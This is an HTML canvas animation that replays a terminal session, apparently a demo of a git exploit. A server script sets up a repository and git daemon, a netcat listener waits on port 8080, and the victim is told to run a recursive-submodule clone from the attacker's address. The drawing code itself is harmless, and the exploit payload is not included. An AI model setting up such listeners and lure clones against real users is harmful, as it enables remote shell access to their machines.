
Animation, 921 px wide and 608 px high, one loop 8000 ms. Source, as an HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #080004; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="921" height="608"></canvas>
<script>
const g = document.getElementById('stage').getContext('2d');
const CW = 8.9, RH = 17.8, COLS = 49, TOP = 40, RIGHT_X = 456.3, LOOP = 8000;
const MONO = '14.78px "DejaVu Sans Mono", monospace';
const SANS = '14.2px "Noto Sans", "Open Sans", sans-serif';
const BOLD = 'bold 14.5px "Noto Sans", "Open Sans", sans-serif';
const HOST = 'host@bce9135840d2: /';

const LEFT = [
  'server$ bash run.sh',
  '[*] Creating repository...',
  '[*] Executing git daemon...',
  '[*] Start your netcat listener, then run this on',
  'the client:',
  '',
  '    $ git clone --recurse-submodules git://<your_',
  'ip>/repo'
];
const RIGHT = ['server$ nc -nvlp 8080', 'listening on [any] 8080 ...'];

// Pointer trips: key points are [time, x, y]
const TRIPS = [
  { from: 2700, to: 5300, path: [[2700, 310, 173], [3200, 69, 101], [3700, 69, 101],
    [4000, 217, 97], [4400, 217, 97], [4700, 638, 99]] },
  { from: 5800, to: 7900, path: [[5700, 637, 99], [6100, 238, 95], [6400, 303, 101], [6700, 303, 101],
    [6900, 190, 101], [7000, 284, 101], [7500, 75, 121], [7600, 75, 121], [7800, 507, 207]] }
];

// Drags select from an anchor word to a moving cell, counted from the start of row 3
const DRAGS = [
  { from: 3700, to: 6600, word: [4, 9], path: [[3700, 10], [4000, 31]] },
  { from: 6700, to: LOOP, word: [32, 36], path: [[6700, 36], [6900, 15], [7000, 15], [7500, 59]] }
];

const during = (t, span) => t >= span.from && t < span.to;
const blink = age => Math.floor(age / 550) % 2 === 0;

// Linear motion through key points, in whole units
function along(path, t) {
  const next = path.findIndex(p => p[0] > t);
  if (next < 1) return path.at(next).slice(1);
  const a = path[next - 1], b = path[next];
  const k = (t - a[0]) / (b[0] - a[0]);
  return a.slice(1).map((v, i) => Math.round(v + (b[i + 1] - v) * k));
}

function rect(x, y, w, h, color) {
  g.fillStyle = color;
  g.fillRect(x, y, w, h);
}

function curve(d, width) {
  g.lineWidth = width;
  g.stroke(new Path2D(d));
}

function ring(x, y, r, width) {
  g.lineWidth = width;
  g.beginPath();
  g.arc(x, y, r, 0, 7);
  g.stroke();
}

function shade(y, h, ...colors) {
  const fill = g.createLinearGradient(0, y, 0, y + h);
  colors.forEach((c, i) => fill.addColorStop(i / (colors.length - 1), c));
  rect(0, y, 921, h, fill);
}

function label(text, x, y, font, color) {
  g.font = font;
  g.fillStyle = color;
  g.textAlign = 'center';
  g.fillText(text, x, y);
}

function cells(text, x, y, color) {
  g.font = MONO;
  g.fillStyle = color;
  g.textAlign = 'left';
  [...text].forEach((ch, i) => g.fillText(ch, x + i * CW, Math.round(y + 14.3)));
}

function wallpaper() {
  shade(0, 608, '#080005', '#080003', '#0b0205');
  g.strokeStyle = '#0d0308';
  curve('M95 490C50 340 150 190 310 188C400 188 450 230 490 270', 18);
  curve('M465 40C490 130 492 260 480 360C470 450 450 520 425 590', 18);
  curve('M478 400C520 520 600 560 660 555C750 540 800 450 780 350', 16);
  curve('M0 440C90 510 200 565 420 580', 14);
  curve('M500 300C560 370 555 450 500 530', 5);
  curve('M850 400C850 480 820 550 770 608', 14);
  curve('M495 270C540 170 600 100 660 40', 5);
  for (let i = 0; i < 3; i++) {
    curve(`M495 ${275 + i * 10}C600 ${160 + i * 32} 760 ${120 + i * 55} 921 ${180 + i * 80}`, 5);
  }
  for (let i = 0; i < 4; i++) {
    curve(`M0 ${500 + i * 22}C60 ${498 + i * 14} 120 ${505 + i * 12} 190 ${570 + i * 12}`, 4);
  }
  for (const [x, y] of [[335, 290], [187, 381]]) {
    ring(x, y, 47, 11);
    curve(`M${x - 30} ${y + 8}q14 -14 26 -6t32 -16M${x - 16} ${y + 24}q12 -14 24 -7t26 -13`, 6);
  }
  for (const [x, y] of [[89, 115], [361, 124], [844, 96], [678, 346]]) ring(x, y, 13, 3);
  ring(880, 389, 22, 3);
}

function titleBar() {
  shade(0, 22, '#4a4944', '#3c3b37');
  label(HOST, 460, 15, BOLD, '#dfdbd2');
  g.strokeStyle = '#dfdbd2';
  curve('M861 12.5h8M882 10h8M886 6v8M904.5 6.5l7 7m0-7l-7 7', 2);
}

function header(x, y, w, text, center, active) {
  rect(x, y, w, 17, active ? '#b80000' : '#c0c0bd');
  rect(x + 23, y, 1, 17, active ? '#a80000' : '#b2b2af');
  label(text, center, y + 13.5, SANS, active ? '#fff' : '#000');
  if (active) {
    rect(x + 3, y + 2, 13, 12, '#1a1015');
    rect(x + 9, y + 3, 6, 5, '#2f6c9c');
    rect(x + 4, y + 8, 5, 5, '#e6e6e6');
    rect(x + 10, y + 9, 5, 4, '#c01010');
  } else {
    g.strokeStyle = '#000';
    curve(`M${x + 3.5} ${y + 2.5}h12v6m-6 5h-6v-11m6 0v11m-6-6h12`, 1);
    g.fillStyle = '#000';
    g.fill(new Path2D(`M${x + 9} ${y + 10}h8l-4 4z`));
  }
}

function scrollbar(x, y, bottom, thumb) {
  rect(x, y, 9, bottom - y, '#d0cec9');
  rect(x + 1, thumb, 7, bottom - thumb, '#6f6e6b');
}

function caret(x, y, active, lit) {
  if (!active) {
    g.strokeStyle = '#ccc';
    g.lineWidth = 1;
    g.strokeRect(Math.round(x) - .5, Math.round(y) - .5, 10, 18);
  } else if (lit) {
    rect(x, y - .4, CW, 18.4, '#fff');
  }
}

function arrow(x, y) {
  const shape = new Path2D(`M${x} ${y}v17l4-4 3 7 3-1.5-3-6.5h5z`);
  g.fillStyle = '#0a0a0a';
  g.fill(shape);
  g.strokeStyle = '#fff';
  g.lineWidth = 1.2;
  g.stroke(shape);
}

function beam(x, y) {
  const d = `M${x - 2.5} ${y - 7.5}h5M${x} ${y - 7.5}v15M${x - 2.5} ${y + 7.5}h5`;
  g.lineCap = 'square';
  g.strokeStyle = '#fff';
  curve(d, 3);
  g.strokeStyle = '#000';
  curve(d, 1);
  g.lineCap = 'butt';
}

function selection(t, ink) {
  const drag = DRAGS.find(d => during(t, d));
  if (!drag) return;
  const [cell] = along(drag.path, t);
  const from = Math.min(drag.word[0], cell), to = Math.max(drag.word[1], cell);
  for (let r = 0; r < 2; r++) {
    const a = Math.max(from - r * COLS, 0), b = Math.min(to - r * COLS, COLS);
    if (b <= a) continue;
    const y = TOP + (3 + r) * RH;
    rect(a * CW, y, (b - a) * CW, RH, ink);
    cells(LEFT[3 + r].slice(a, b), a * CW, y, '#000');
  }
}

function leftPane(t, active) {
  const ink = active ? '#fff' : '#ccc';
  const rows = t < 800 ? 1 : t < 2100 ? 2 : LEFT.length;
  LEFT.slice(0, rows).forEach((line, r) => cells(line, 0, TOP + r * RH, ink));
  selection(t, ink);
  // Typing, output and focus restart the blinking
  const restart = [100, 700, 2100, 6600].filter(s => s <= t).pop();
  const typed = t < 700;
  caret(typed ? LEFT[0].length * CW : 0, TOP + (typed ? 0 : rows * RH), active, blink(t - restart));
}

function rightPane(t, active) {
  const sent = t >= 5500;
  const rows = RIGHT.slice(0, sent ? 2 : 1);
  rows.forEach((line, r) => cells(line, RIGHT_X, TOP + r * RH, active ? '#fff' : '#ccc'));
  if (sent) caret(RIGHT_X, TOP + 2 * RH, active, blink(t - 5500));
  else caret(RIGHT_X + RIGHT[0].length * CW, TOP, active, true);
}

function draw(t) {
  const onRight = t >= 4800 && t < 6600;
  wallpaper();
  titleBar();
  header(0, 22, 455, HOST + ' 49x15', 238, !onRight);
  header(455, 22, 466, HOST + ' 51x15', 700, onRight);
  header(0, 310, 921, HOST + 'home/peer 102x15', 472, false);
  scrollbar(445, 39, 309, 175);
  scrollbar(912, 39, 309, 175);
  scrollbar(912, 327, 608, 469);

  leftPane(t, !onRight);
  rightPane(t, onRight);
  cells('client$', 0, 328.4, '#ccc');
  caret(8 * CW, 328.4, false);

  if (t < 100) arrow(306.5, 163.5);
  const trip = TRIPS.find(p => during(t, p));
  if (trip) beam(...along(trip.path, t));
}

const start = performance.now();
function tick() {
  const t = (performance.now() - start) % LOOP;
  draw(Math.floor(t / 100) * 100);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
